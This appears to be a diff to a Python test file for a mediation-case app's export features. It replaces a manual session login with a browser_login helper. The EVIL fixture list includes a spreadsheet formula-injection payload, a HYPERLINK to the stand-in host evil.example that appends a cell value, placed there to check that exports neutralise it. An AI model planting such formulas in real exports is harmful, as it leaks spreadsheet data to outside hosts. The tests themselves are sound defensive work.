@@ -17,7 +17,7 @@ from mediation.cases import service as svc
 from mediation.db.models import Enterprise
 from tests.factories import World, application
 from tests.fixtures import Api
-from tests.helpers import TODAY
+from tests.helpers import TODAY, browser_login
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
@@ -85,9 +85,7 @@ def test_rest_exports_write_typed_names_as_text(api: Api, world: World, evil: li
 
 
 def _login(client: FlaskClient, world: World) -> None:
-    with client.session_transaction() as sess:
-        sess["_user_id"] = str(world.supervisor.id)
-        sess["_fresh"] = True
+    browser_login(client, world.supervisor)
 
 
 def test_dashboard_exports_write_typed_names_as_text(client: FlaskClient, world: World, evil: list[str]) -> None:
